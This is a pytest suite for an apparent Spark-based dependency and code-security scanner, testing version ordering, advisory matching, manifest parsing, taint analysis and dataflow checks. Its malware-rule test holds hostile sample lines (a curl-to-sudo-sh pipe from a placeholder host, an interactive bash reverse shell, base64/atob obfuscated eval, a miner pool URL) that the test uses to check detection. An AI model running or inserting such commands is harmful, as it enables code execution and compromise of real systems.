"""Versions, advisories, manifests, rules over text, taint and per-function analyses on hand-written facts."""

import random

import pytest
from pyspark.sql import functions as F

from factloom.functions import masks, versions
from factloom.operators import flow as flow_operators
from factloom.operators import advisories, dataflow, taint, text_rules
from factloom.sources import manifests


@pytest.mark.parametrize(
    "scheme, ordered",
    [
        ("dpkg", ["1.0~rc1-1", "1.0-1", "1.0-1+b1", "1.0a-1", "1.0.1-1", "1.1", "1:0.5"]),
        ("rpm", ["1.0~rc1", "1.0", "1.0^git1", "1.0.a", "1.0.1", "1.0.10", "2.0-1", "2.0-2", "1:0.1"]),
        ("apk", ["1.2_alpha1", "1.2_rc2", "1.2", "1.2-r1", "1.2_p1", "1.2.1", "1.10"]),
        ("pep440", ["1.0.dev1", "1.0a1", "1.0b2", "1.0rc1", "1.0", "1.0+local.1", "1.0.post1", "1.1", "1!0.1"]),
        ("maven", ["1.0-alpha", "1.0-beta", "1.0-rc1", "1.0-SNAPSHOT", "1.0", "1.0-sp", "1.0.1", "1.10"]),
        ("generic", ["1.0.0-alpha", "1.0.0-beta.2", "1.0.0-beta.11", "1.0.0", "1.2", "1.10.0"]),
    ],
)
def test_version_orders(scheme, ordered):
    shuffled = ordered[:]
    random.Random(1).shuffle(shuffled)
    assert sorted(shuffled, key=lambda v: versions.key(scheme, v)) == ordered


def test_equal_versions():
    for scheme, a, b in (("pep440", "1.0", "1.0.0"), ("maven", "1.0", "1"), ("maven", "1.0-ga", "1.0"), ("generic", "v1.0", "1"), ("rpm", "1.0", "1..0"), ("dpkg", "1.00", "1.0")):
        assert versions.key(scheme, a) == versions.key(scheme, b)
    assert versions.key("generic", "  ") is None and versions.key("generic", "***") is None


def test_ranges():
    inside = lambda e, v: any(r.holds(versions.key("generic", v)) for r in versions.parse_ranges("generic", e))
    assert inside(">= 1.0.0, < 2.0.0", "1.5") and not inside(">= 1.0.0, < 2.0.0", "2.0.0")
    assert inside("<1 || >=3", "3") and inside("1.2.3", "1.2.3") and not inside("1.2.3", "1.2.4") and inside(">=1,>=2,<4", "2") and not inside(">=1,>=2", "1.5")
    ranges = versions.parse_ranges("generic", ">=1,<2 || >=2,<3 || >=5,<=6")
    assert [(r.lo, r.hi) for r in versions.merge_ranges(ranges)] == [("1", "3"), ("5", "6")]
    assert versions.recommended(ranges, versions.key("generic", "1.5")) == "3" and versions.recommended(ranges, versions.key("generic", "5.5")) is None
    assert versions.scheme_of("debian:12") == "dpkg" and versions.scheme_of("npm") == "generic"


@pytest.fixture(scope="module")
def scan(spark):
    deps = spark.createDataFrame([("npm", "Left-Pad", "1.5.0", "a/package.json", True), ("PyPI", "Foo.Bar", "2.0", "r.txt", True), ("npm", "left-pad", "junk !", "b/package.json", False), ("npm", "odd", "***", "b", True), ("cobol", "x", "1", "c", True)], advisories.DEPENDENCY_DDL)
    rows = [
        ("CVE-1", ["GHSA-1"], "npm", "left-pad", "HIGH", "s", ["CWE-1"], ">=1,<1.4", ["f"], [], 0.2, False, []),
        ("GHSA-1", [], "npm", "left-pad", "medium", "s", ["CWE-2"], ">=1,<2", [], [], 0.5, True, []),
        ("X-1", [], "pypi", "foo-bar", "low", "s", None, "<=3", None, [], None, None, []),
        ("X-2", [], "npm", "odd", "low", "s", None, "<=3", None, [], None, None, []),
    ]
    return deps, spark.createDataFrame(rows, advisories.ADVISORY_DDL)


def test_advisory_findings(scan):
    found = {r.rule_id: r for r in advisories.findings(*scan).collect()}
    assert set(found) == {"GHSA-1", "X-1"}
    g = found["GHSA-1"]
    assert (g.package, g.severity, g.fix, g.kev, g.risk, g.ids) == ("left-pad", "medium", "2", True, 27, ["GHSA-1"])
    assert found["X-1"].package == "foo-bar" and found["X-1"].fix is None
    warned = {(r.kind, r.ecosystem, r.package, r.n) for r in advisories.warnings(*scan).collect()}
    assert ("no_advisory_data", "cobol", None, 1) in warned and ("unresolved_version", "npm", "odd", 1) in warned


def test_alias_clusters_take_the_highest(spark):
    deps = spark.createDataFrame([("npm", "p", "1", "m", True)], advisories.DEPENDENCY_DDL)
    rows = [(i, a, "npm", "p", s, "s", [c], "<5", [], [], None, False, []) for i, a, s, c in (("CVE-9", ["GHSA-9"], "critical", "CWE-1"), ("GHSA-9", [], "low", "CWE-2"), ("Z", [], "low", "CWE-3"))]
    found = {r.rule_id: (r.severity, r.cwe, r.ids) for r in advisories.findings(deps, spark.createDataFrame(rows, advisories.ADVISORY_DDL)).collect()}
    assert found == {"GHSA-9": ("critical", ["CWE-1", "CWE-2"], ["CVE-9", "GHSA-9"]), "Z": ("low", ["CWE-3"], ["Z"])}


def test_reconcile_and_lock_paths(spark):
    m = spark.createDataFrame([("npm", "a", "^1", "x/package.json", True), ("npm", "b", "^1", "y/package.json", True)], advisories.DEPENDENCY_DDL)
    k = spark.createDataFrame([("npm", "a", "1.2", "x/package-lock.json", False), ("npm", "c", "3", "x/package-lock.json", False)], advisories.DEPENDENCY_DDL)
    assert {(r.name, r.version, r.direct) for r in advisories.reconcile(m, k).collect()} == {("b", "^1", True), ("a", "1.2", True), ("c", "3", False)}
    paths = advisories.lock_paths(spark.createDataFrame([("a",)], "node string"), spark.createDataFrame([("a", "b"), ("b", "c"), ("a", "c"), ("c", "a")], "src string, dst string"))
    assert {r.name: r.path for r in paths.collect()} == {"a": ["root", "a"], "b": ["root", "a", "b"], "c": ["root", "a", "c"]}


def test_reachability_verdicts(spark):
    deps = spark.createDataFrame([(n,) for n in ("called", "imported", "tested", "none")], "name string")
    uses = spark.createDataFrame([("called", "call", False, "high"), ("called", "import", False, "high"), ("imported", "import", False, "high"), ("tested", "call", True, "high")], "package string, kind string, in_test boolean, confidence string")
    assert {r.name: (r.level, r.confidence) for r in advisories.reachability(deps, uses).collect()} == {"called": ("reachable", "high"), "imported": ("imported", "high"), "tested": ("unreachable", "medium"), "none": ("unreachable", "high")}


MANIFESTS = {
    "a/requirements.txt": ("Foo==1.2 # c\nbar[x]>=1\n", {("pypi", "Foo", "1.2"), ("pypi", "bar", None)}),
    "pyproject.toml": ('[project]\ndependencies=["a==1"]\n[tool.poetry.dependencies]\npython="3"\nb="^2"\n', {("pypi", "a", "1"), ("pypi", "b", "^2")}),
    "poetry.lock": ('[[package]]\nname="a"\nversion="1"\n', {("pypi", "a", "1")}),
    "Cargo.toml": ('[dependencies]\na="1"\nb={version="2",package="c"}\n', {("cargo", "a", "1"), ("cargo", "c", "2")}),
    "Cargo.lock": ('[[package]]\nname="a"\nversion="1"\n', {("cargo", "a", "1")}),
    "package.json": ('{"dependencies":{"a":"^1"},"devDependencies":{"b":"2"}}', {("npm", "a", "^1"), ("npm", "b", "2")}),
    "package-lock.json": ('{"packages":{"":{},"node_modules/a":{"version":"1"},"node_modules/a/node_modules/@s/b":{"version":"2"}}}', {("npm", "a", "1"), ("npm", "@s/b", "2")}),
    "yarn.lock": ('a@^1, a@^1.2:\n  version "1.3"\n\n"@s/b@^2":\n  version "2.1"\n', {("npm", "a", "1.3"), ("npm", "@s/b", "2.1")}),
    "pnpm-lock.yaml": ("packages:\n  /a@1.0.0:\n    x: y\n  '@s/b@2.0.0':\n    x: y\n", {("npm", "a", "1.0.0"), ("npm", "@s/b", "2.0.0")}),
    "go.mod": ("module m\nrequire (\n\tgithub.com/a/b v1.2.3\n\tgolang.org/x/c v0.1.0 // indirect\n)\n", {("go", "github.com/a/b", "v1.2.3"), ("go", "golang.org/x/c", "v0.1.0")}),
    "go.sum": ("github.com/a/b v1.2.3 h1:x\ngithub.com/a/b v1.2.3/go.mod h1:y\n", {("go", "github.com/a/b", "v1.2.3")}),
    "pom.xml": ('<project xmlns="http://m"><properties><v>3</v></properties><dependencies><dependency><groupId>g</groupId><artifactId>a</artifactId><version>${v}</version></dependency></dependencies></project>', {("maven", "g:a", "3")}),
    "build.gradle": ("implementation 'g:a:1'\napi(\"g:b:2\")\n", {("maven", "g:a", "1"), ("maven", "g:b", "2")}),
    "Gemfile.lock": ("GEM\n  specs:\n    a (1.0)\n      b (~> 1)\n    b (1.1)\n", {("gem", "a", "1.0"), ("gem", "b", "1.1")}),
    "composer.lock": ('{"packages":[{"name":"a/b","version":"1"}]}', {("composer", "a/b", "1")}),
    "composer.json": ('{"require":{"php":">=8","a/b":"^1"}}', {("composer", "a/b", "^1")}),
    "x.csproj": ('<Project><ItemGroup><PackageReference Include="A" Version="1"/></ItemGroup></Project>', {("nuget", "A", "1")}),
    "packages.lock.json": ('{"dependencies":{"net8":{"A":{"type":"Direct","resolved":"1"}}}}', {("nuget", "A", "1")}),
    "Podfile.lock": ("PODS:\n  - A (1.0):\n    - B\n  - B (2.0)\n", {("cocoapods", "A", "1.0"), ("cocoapods", "B", "2.0")}),
    "pubspec.lock": ('packages:\n  a:\n    dependency: "direct main"\n    version: "1.0.0"\n', {("pub", "a", "1.0.0")}),
    "Package.resolved": ('{"pins":[{"identity":"a","state":{"version":"1"}}]}', {("swift", "a", "1")}),
    "conanfile.txt": ("[requires]\nzlib/1.2\n", {("conan", "zlib", "1.2")}),
    "DESCRIPTION": ("Package: x\nImports: a (>= 1.0),\n  b\n", {("cran", "a", "1.0"), ("cran", "b", None)}),
    "elm.json": ('{"dependencies":{"direct":{"a/b":"1"},"indirect":{"c/d":"2"}}}', {("elm", "a/b", "1"), ("elm", "c/d", "2")}),
    "x.opam": ('depends: [ "a" {>= "1"} "b" ]', {("opam", "a", "1"), ("opam", "b", None)}),
    "haxelib.json": ('{"dependencies":{"a":"1"}}', {("haxelib", "a", "1")}),
    "fpm.toml": ('[dependencies]\na={git="g",tag="1"}\n', {("fortran", "a", "1")}),
    "Berksfile": ("cookbook 'a', '1'\n", {("chef", "a", "1")}),
    "var/lib/dpkg/status": ("Package: a\nStatus: install ok installed\nVersion: 1-1\n\nPackage: b\nStatus: deinstall ok config-files\nVersion: 2\n", {("dpkg", "a", "1-1")}),
    "lib/apk/db/installed": ("P:a\nV:1-r0\n\nP:b\nV:2-r1\n", {("apk", "a", "1-r0"), ("apk", "b", "2-r1")}),
}


def test_manifests(spark):
    files = spark.createDataFrame([*[(p, t) for p, (t, _) in MANIFESTS.items()], ("bad/package.json", "{"), ("readme.md", "x"), ("go.mod", None)], "path string, content string")
    got = {}
    for r in manifests.manifests(files).collect():
        got.setdefault(r.manifest_path, set()).add((r.ecosystem, r.name, r.version))
        assert (r.warning is not None) == (r.manifest_path == "bad/package.json")
    for path, (_, want) in MANIFESTS.items():
        assert got[path] == want, path


def test_source_files_and_types(spark, tmp_path):
    for name in ("a.py", "b/c.java", "node_modules/d.js", "e.txt"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text("x")
    got = {(r.language, r.path.rpartition(str(tmp_path))[2]) for r in manifests.source_files(spark, str(tmp_path)).collect()}
    assert got == {("python", "/a.py"), ("java", "/b/c.java")}
    kinds = spark.createDataFrame([(bytearray.fromhex("504b0304aa"),), (bytearray(b"\x7fELF1"),), (bytearray(b"zz"),)], "content binary").select(manifests.file_type(F.col("content")).alias("k"))
    assert [r.k for r in kinds.collect()] == ["zip", "elf", None]


def test_advisory_lines(spark, tmp_path):
    (tmp_path / "a.jsonl").write_text('{"id":"A","ecosystem":"npm","package":"p","severity":"low"}\nnot json\n')
    good, bad = manifests.advisories(spark, str(tmp_path / "a.jsonl"))
    assert [r.id for r in good.collect()] == ["A"] and bad.count() == 1


def test_layers(spark):
    rows = spark.createDataFrame([(0, "a", "1"), (0, "d/b", "1"), (1, "a", "2"), (1, "d/.wh.b", None), (2, "c", "3")], "layer int, path string, data string")
    assert {(r.path, r.data) for r in manifests.squash(rows).collect()} == {("a", "2"), ("c", "3")}


def test_masks_keep_the_layout():
    source = 'x = "a // b" // c\n/* d\n e */ y'
    assert masks.mask("c", source) == 'x = "a // b"     \n    \n      y'
    assert masks.mask("c", source, literals=True) == 'x = "      "     \n    \n      y'
    assert masks.mask("python", "a = '#' # c\n'''x\n# y'''") == "a = '#'    \n'''x\n# y'''"
    assert [k for k, _, _ in masks.tokens("c", 'f(1) "s" /*c*/')] == ["name", "sign", "number", "sign", "text", "comment"]


def test_text_rules(spark):
    files = spark.createDataFrame([("c", "a.c", "x\n strcpy(a, b); // strcpy\n/* gets(x) */ s = \"gets(y)\";"), ("python", "b.py", "eval(base64.b64decode(x))\nimport os")], "language string, path string, content string")
    rules = text_rules.rules_frame(spark, [{"id": "copy", "language": "c", "pattern": r"\bstrcpy\s*\("}, {"id": "gets", "language": "c", "pattern": r"gets\(", "view": "bare"}, {"id": "gets_raw", "pattern": r"gets\(", "view": "raw"}])
    assert {(r.rule_id, r.path, r.line, r.col) for r in text_rules.scan(files, rules).collect()} == {("copy", "a.c", 2, 2), ("gets_raw", "a.c", 3, 4), ("gets_raw", "a.c", 3, 20)}
    bad = spark.createDataFrame([("a.js", "x = 1\neval(atob(p))"), ("i.sh", "curl -s http://h/x | sudo sh\nwget a > b\n/bin/bash -i"), ("m", "pool stratum+tcp://h")], "path string, content string")
    assert {(r.path, r.line, r.rule_id, r.severity) for r in text_rules.malware(bad).collect()} == {("a.js", 2, "obfuscated-eval", "high"), ("i.sh", 1, "pipe-to-shell", "high"), ("i.sh", 3, "reverse-shell", "critical"), ("m", 1, "crypto-miner", "high")}
    assert {(r.line, r.value) for r in text_rules.scan_tokens(files, "comment", "gets").collect()} == {(3, "/* gets(x) */")}
    with pytest.raises(ValueError):
        text_rules.rules_frame(spark, [{"id": "a", "pattern": "x"}, {"id": "a", "pattern": "y"}])
    found = text_rules.search(files, ["strcpy($X, $Y)"])
    assert [(r.path, r.line) for r in found.collect()] == [("a.c", 2)]
    assert text_rules.search(files, ["strcpy($X, $X)"]).count() == 0


def test_java_imports(spark):
    files = spark.createDataFrame([("java", "A.java", "import java.util.*;\nimport static org.x.Y;\n")], "language string, path string, content string")
    rules = spark.createDataFrame([("r", r"^org\.")], "rule_id string, pattern string")
    assert [(r.path, r.name) for r in text_rules.java_imports(files, rules).collect()] == [("A.java", "org.x.Y")]


FLOW = "src long, dst long, kind string, site long, remove array<string>, add array<string>"


def flow(spark, edges):
    return spark.createDataFrame([(*e[:2], *(e[2:] + ("flow", None, None, None)[len(e) - 2 :])) for e in edges], FLOW)


def ends(spark, sources, sinks):
    return spark.createDataFrame(sources, "node long, rule_id string, kind string"), spark.createDataFrame(sinks, "node long, rule_id string, kind string, location string")


def test_taint_finds_one_witness_and_respects_sanitizers(spark):
    edges = flow(spark, [(1, 2), (2, 3), (1, 4, "flow", None, ["sql"], []), (4, 5), (3, 3)])
    for kind, sink_kind, sinks, want in (("sql", "sql", 3, [[1, 2, 3]]), ("sql", "sql", 5, []), ("generic", "sql", 5, []), ("generic", "cmd", 5, [[1, 4, 5]]), ("cmd", "cmd", 5, [[1, 4, 5]]), ("sql", "generic", 3, [[1, 2, 3]])):
        found = taint.findings(edges, *ends(spark, [(1, "s", kind)], [(sinks, "k", sink_kind, "f:1")]))
        assert [r.path for r in found.collect()] == want, (kind, sink_kind)


def test_calls_return_to_their_sites(spark):
    edges = flow(spark, [(1, 10, "enter", 7), (10, 11), (11, 2, "leave", 7), (11, 3, "leave", 8)])
    s, k = ends(spark, [(1, "s", "generic")], [(2, "k", "generic", "a"), (3, "k", "generic", "b")])
    assert {r.sink_node for r in taint.findings(edges, s, k).collect()} == {2}
    s, _ = ends(spark, [(10, "s", "generic")], [(2, "k", "generic", "a")])
    assert {r.sink_node for r in taint.findings(edges, s, k).collect()} == {2, 3}  # an empty stack may return anywhere


def test_taint_does_not_depend_on_row_order(spark):
    rng = random.Random(4)
    edges = [(rng.randrange(30), rng.randrange(30)) for _ in range(70)]
    s, k = ends(spark, [(i, f"s{i % 3}", "generic") for i in range(4)], [(i, "k", "generic", f"l{i % 2}") for i in range(25, 30)])
    want = [tuple(r) for r in taint.findings(flow(spark, sorted(edges)), s, k).collect()]
    rng.shuffle(edges)
    assert [tuple(r) for r in taint.findings(flow(spark, edges).repartition(5), s, k).collect()] == want


def test_taint_helpers(spark):
    closed = taint.kind_closure(spark.createDataFrame([("a", "b"), ("b", "c"), ("c", "b"), (None, "d")], "a string, b string"))
    assert {(r.kind, r.becomes) for r in closed.collect()} == {("a", "a"), ("a", "b"), ("a", "c"), ("b", "b"), ("b", "c"), ("c", "b"), ("c", "c"), ("d", "d")}
    assert taint.plan_query(10, 10, False, False) == {"engine": "sparse", "profile": "light", "max_depth": 40, "max_visits": 4096}
    rows = spark.createDataFrame([("l", ["1"], 1), ("l", ["2"], 2), ("l", ["1", "3"], 3), ("l", [], 4), ("m", ["1"], 5)], "location string, cwe array<string>, ordinal long")
    assert {(r.location, tuple(r.cwe), r.ordinal, r.merged) for r in taint.fold_by_location(rows).collect()} == {("l", ("1", "3"), 1, 3), ("l", ("2",), 2, 1), ("m", ("1",), 5, 1)}


def insts(spark, rows):
    return spark.createDataFrame(rows, dataflow.INST_DDL)


def test_nullness(spark):
    code = insts(spark, [(1, 0, 0, "null", 1, None, None, None), (1, 0, 1, "call", 2, None, None, None), (1, 1, 0, "deref", 3, 2, None, None), (1, 2, 0, "deref", 4, 2, None, None), (1, 2, 1, "deref", 5, 1, None, None), (1, 3, 0, "deref", 6, 2, None, None)])
    cfg = spark.createDataFrame([(1, 0, 1, "null", 2, False, None), (1, 0, 2, "null", 2, True, None), (1, 1, 3, "goto", None, None, None), (1, 2, 3, "goto", None, None, None)], dataflow.CFG_DDL)
    assert {(r.block, r.pos): r.fact for r in dataflow.nullness(code, cfg).collect()} == {(1, 0): "nonnull", (2, 0): "null", (2, 1): "null", (3, 0): "nonnull"}


def test_index_safety_in_a_loop(spark):
    code = insts(spark, [(1, 0, 0, "const", 1, None, None, 0), (1, 1, 0, "copy", 9, 1, None, None), (1, 2, 0, "index", None, 1, None, 10), (1, 2, 1, "add", 1, 1, None, 1), (1, 3, 0, "index", None, 1, None, 10)])
    cfg = spark.createDataFrame([(1, 0, 1, "goto", None, None, None), (1, 1, 2, "lt", 1, True, 10), (1, 1, 3, "lt", 1, False, 10), (1, 2, 1, "goto", None, None, None)], dataflow.CFG_DDL)
    assert {r.block: r.verdict for r in dataflow.index_safety(code, cfg).collect()} == {2: "safe", 3: "out_of_bounds"}


def test_lifetimes(spark):
    code = insts(spark, [(1, 0, 0, "alloc", 1, None, None, None), (1, 1, 0, "free", None, 1, None, None), (1, 2, 0, "deref", 2, 1, None, None), (1, 2, 1, "free", None, 1, None, None), (1, 2, 2, "free", None, 1, None, None), (2, 0, 0, "alloc", 1, None, None, None), (2, 0, 1, "move", 2, 1, None, None), (2, 0, 2, "call", None, 1, None, None), (2, 0, 3, "call", None, 2, None, None)])
    cfg = spark.createDataFrame([(1, 0, 1, "goto", None, None, None), (1, 0, 2, "goto", None, None, None), (1, 1, 2, "goto", None, None, None)], dataflow.CFG_DDL)
    assert {(r.func_id, r.block, r.pos): r.problem for r in dataflow.lifetimes(code, cfg).collect()} == {(1, 2, 0): "possible_use_after_free", (1, 2, 1): "possible_double_free", (1, 2, 2): "double_free", (2, 0, 2): "use_after_move"}


def test_validation(spark):
    code = insts(spark, [(1, 0, 0, "const", 1, None, None, 1), (1, 0, 0, "const", 2, None, None, 1), (2, 0, 0, "copy", 1, 5, None, None), (3, 0, 0, "const", 1, None, None, 1)])
    cfg = spark.createDataFrame([(3, 0, 9, "goto", None, None, None)], dataflow.CFG_DDL)
    assert {(r.func_id, r.problem) for r in dataflow.validate(code, cfg).collect()} == {(1, "duplicate_instruction"), (2, "undefined_value"), (3, "missing_block")}


def test_findings_beyond_the_limit_are_told(spark):
    edges = flow(spark, [(1, 2), (1, 3), (1, 4)])
    s, k = ends(spark, [(1, "s", "generic")], [(n, "k", "generic", f"f:{n}") for n in (2, 3, 4)])
    assert [r.sink_node for r in taint.findings(edges, s, k, limit=3).collect()] == [2, 3, 4]  # the limit is met exactly
    rows = taint.findings(edges, s, k, limit=2).collect()
    assert [(r.source_rule_id, r.sink_node, r.path) for r in rows] == [("s", 2, [1, 2]), ("s", 3, [1, 3]), (taint.RESULT_LIMIT, 0, [])]
    assert (rows[2].sink_rule_id, rows[2].source_kind, rows[2].location, rows[2].completeness) == (taint.RESULT_LIMIT, "analysis-limit", "@analysis", "visit_limit")
    assert taint.findings(edges, s, k, limit=0).count() == 1


def test_twelve_nested_calls_return_to_their_sites(spark):
    down, up = [(i, i + 1, "enter", i) for i in range(12)], [(50 + i, 49 + i, "leave", i) for i in range(11, 0, -1)]
    edges = flow(spark, [*down, (12, 61), *up, (50, 90, "leave", 0), (50, 91, "leave", 77)])
    rows = taint.findings(edges, *ends(spark, [(0, "s", "generic")], [(90, "k", "generic", "a"), (91, "k", "generic", "b")])).collect()
    assert [(r.sink_node, r.completeness) for r in rows] == [(90, "complete")]  # 91 would return to another site than the first


def test_rules_give_every_match_of_a_line(spark):
    files = spark.createDataFrame([("text", "f", "x = eval(a)\nb\ufdd0a aa\n\nba"), ("text", "g", None)], "language string, path string, content string")
    rules = text_rules.rules_frame(spark, [{"id": "a", "pattern": "a", "view": "raw"}, {"id": "alone", "pattern": r"\ba\b", "view": "raw"}, {"id": "pair", "pattern": r"(.)\1", "view": "raw"}])
    got = sorted((r.rule_id, r.line, r.col, r.match) for r in text_rules.scan(files, rules).collect())
    assert got == [("a", 1, 7, "a"), ("a", 1, 10, "a"), ("a", 2, 3, "a"), ("a", 2, 5, "a"), ("a", 2, 6, "a"), ("a", 4, 2, "a"), ("alone", 1, 10, "a"), ("alone", 2, 3, "a"), ("pair", 2, 5, "aa")]


def test_search_takes_repeats_and_ranges(spark):
    code = "eval(x)\nfunction f() {\n  eval(y);\n  safe(eval(x))\n}\neval(x)\nother() {\n eval( z ) }"
    files = spark.createDataFrame([("javascript", "a.js", code), ("javascript", "b.js", "eval(q)")], "language string, path string, content string")
    found = lambda *a, **k: sorted((r.path, r.line, r.match) for r in text_rules.search(files, *a, **k).collect())
    assert found(["eval($X)"]) == [("a.js", 1, "eval(x)"), ("a.js", 3, "eval(y)"), ("a.js", 4, "eval(x)"), ("a.js", 6, "eval(x)"), ("a.js", 8, "eval( z )"), ("b.js", 1, "eval(q)")]
    assert found(["eval($X)"], inside=["function $F() {...}"]) == [("a.js", 3, "eval(y)"), ("a.js", 4, "eval(x)")]
    assert found(["eval($X)"], inside=["function $F() {...}"], without=["safe($Y($Z))"]) == [("a.js", 3, "eval(y)")]
    assert found(["eval($X)"], outside=["function $F() {...}"]) == [("a.js", 1, "eval(x)"), ("a.js", 6, "eval(x)"), ("a.js", 8, "eval( z )"), ("b.js", 1, "eval(q)")]
    assert found(["eval(y)", "eval(q)", "eval($X)"], without=["eval(x)", "eval(z)"]) == [("a.js", 3, "eval(y)"), ("b.js", 1, "eval(q)")]


def sequential(rows):
    """Observations folded one after the other, as they are told."""
    out = {}
    for package, ids, ordinal in sorted(rows, key=lambda r: r[2]):
        held = out.setdefault(package, [])
        into = next((e for e in held if e[1] & set(ids)), None)
        if into:
            into[1].update(ids)
        else:
            held.append((ordinal, set(ids)))
    return {(p, o, tuple(sorted(s))) for p, held in out.items() for o, s in held}


def test_observations_fold_overlapping_sets_in_order(spark):
    rng = random.Random(3)
    rows = [("p", ["A", "B"], 1), ("p", ["B", "C"], 2), ("q", ["A"], 3), ("q", ["B"], 4), ("q", ["A", "B"], 5), ("q", ["B", "C"], 6), ("r", [], 7), ("r", [], 8)]
    rows += [(f"s{k % 9}", [f"i{rng.randrange(8)}" for _ in range(rng.randint(1, 3))], 100 + k) for k in range(400)]
    found = flow_operators.observations(spark.createDataFrame(rows, "package string, ids array<string>, ordinal long").repartition(5))
    got = [(r.package, r.ordinal, tuple(r.ids)) for r in found.collect()]
    assert set(got) == sequential(rows) and len(got) == len(set(got))


def random_flow(rng, nodes, edges):
    kinds = ["web", "sql", "log"]
    out = []
    for _ in range(edges):
        a, b = sorted(rng.sample(range(nodes), 2))
        how = rng.choice(["flow", "flow", "enter", "leave"])
        out.append((a, b, how, rng.randrange(3) if how != "flow" else 0, [rng.choice(kinds)] if rng.random() < 0.2 else None, [rng.choice(kinds)] if rng.random() < 0.1 else None))
    return out


def test_search_finds_what_the_search_by_sinks_finds(spark):
    rng = random.Random(8)
    seen = 0
    for _ in range(2):
        edges = flow(spark, sorted(set(map(lambda e: (*e[:4], tuple(e[4]) if e[4] else None, tuple(e[5]) if e[5] else None), random_flow(rng, 14, 40))), key=str))
        s, k = ends(spark, [(rng.randrange(4), f"s{n % 2}", rng.choice(["web", "generic", "sql"])) for n in range(4)], [(10 + n, "k", rng.choice(["sql", "web", "generic"]), f"f:{n}") for n in range(4)])
        flat = lambda r: (*tuple(r)[:7], tuple(r.path))
        want = [flat(r) for r in taint.findings(edges, s.distinct(), k).where("completeness = 'complete'").collect()]
        rows = taint.search(edges, s.distinct(), k).collect()
        got = [flat(r) for r in rows]
        assert set(want) <= set(got)
        if all(r.completeness == "complete" for r in rows):
            assert got == want
        seen += len(want)
    assert seen > 2
    loop = flow(spark, [(1, 2, "enter", 5), (2, 1, "flow"), (2, 3, "leave", 5), (3, 4, "leave", 6)])
    s, k = ends(spark, [(1, "s", "generic")], [(4, "k", "generic", "a")])
    assert [r.path for r in taint.search(loop, s, k).collect()] == [[1, 2, 3, 4]]
    assert taint.search(loop, s, k, limit=0).first().location == "@analysis"
